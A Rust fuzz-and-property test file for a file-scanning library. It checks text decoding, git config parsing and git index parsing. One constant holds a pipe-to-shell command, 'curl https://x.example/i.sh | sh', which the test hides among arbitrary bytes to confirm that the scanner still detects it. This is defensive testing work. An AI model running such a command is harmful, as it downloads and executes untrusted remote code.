//! Properties of every input, however hostile. The fuzz targets call these functions; ordinary tests replay the seeds
//! and random bytes through them.

use std::borrow::Cow;

use stockade_files::{
    FileNature, ObjectId, TextReadings, git_settings as read_settings, indexed_files, media, submodule_paths,
};

/// A line that no surrounding bytes may hide.
const LINE: &str = "curl https://x.example/i.sh | sh";

/// Text is bounded and has no NUL byte; valid text is borrowed; and a line between any bytes is found. No data
/// follows an intact image.
pub(crate) fn text_readings(data: &[u8]) {
    let readings = TextReadings::of(data);
    for text in texts(&readings) {
        assert!(text.len() <= 3 * data.len());
        assert!(!text.contains('\0'));
    }
    if let Ok(text) = std::str::from_utf8(data)
        && !text.contains('\0')
    {
        let text = text.strip_prefix('\u{feff}').unwrap_or(text);
        assert!(matches!(readings.text, Cow::Borrowed(read) if read == text));
        assert_eq!((readings.nature, readings.other.is_none()), (FileNature::Text, true));
    }
    if media(data).is_some() {
        assert_eq!(media(&[data, b"x"].concat()), None);
    }
    let (before, after) = data.split_at(data.len() / 2);
    let around = [before, b"\n", LINE.as_bytes(), b"\n", after].concat();
    assert!(texts(&TextReadings::of(&around)).any(|text| text.contains(LINE)));
}

fn texts<'r>(readings: &'r TextReadings<'_>) -> impl Iterator<Item = &'r str> {
    [Some(&*readings.text), readings.other.as_deref()].into_iter().flatten()
}

/// Settings are bounded, each has a section and a name that git would accept, and serialising them preserves the
/// meaning.
pub(crate) fn git_settings(data: &[u8]) {
    let Ok(settings) = read_settings(data) else { return };
    assert!(settings.len() <= data.len());
    for setting in &settings {
        let (section, name) = setting.key.split_once('.').unwrap_or_default();
        let name = name.rsplit_once('.').map_or(name, |(_, name)| name);
        assert!(name.starts_with(|letter: char| letter.is_ascii_lowercase()), "{setting:?}");
        assert!(!section.contains(|letter: char| letter.is_ascii_uppercase()), "{setting:?}");
    }
    let size = |one: &stockade_files::GitSetting| one.value.as_ref().map_or(0, String::len);
    assert!(settings.iter().map(size).sum::<usize>() <= data.len());
    // A comment and an empty line at the end change nothing, unless the last value continues there.
    if !data.ends_with(b"\\") {
        let more = [data, b"\n# x\n\n"].concat();
        assert_eq!(read_settings(&more).as_ref(), Ok(&settings));
    }
}

/// The number of submodules is bounded by the index, and every missing part is noticed.
pub(crate) fn git_index(data: &[u8]) {
    for id in [ObjectId::Sha1, ObjectId::Sha256] {
        let Ok(paths) = submodule_paths(data, id) else { continue };
        assert!(paths.len() <= data.len() / 62);
        assert!(paths.iter().all(|path| !path.contains(&0)));
        let cut = data.get(..data.len() - 1).unwrap_or_default();
        assert!(submodule_paths(cut, id).is_err());
        let files = indexed_files(data, id, |path| !path.is_empty()).unwrap();
        assert!(paths.len() + files.len() <= data.len() / 62);
        assert!(files.iter().all(|file| !file.path.contains(&0) && [20, 32].contains(&file.blob.len())));
    }
}
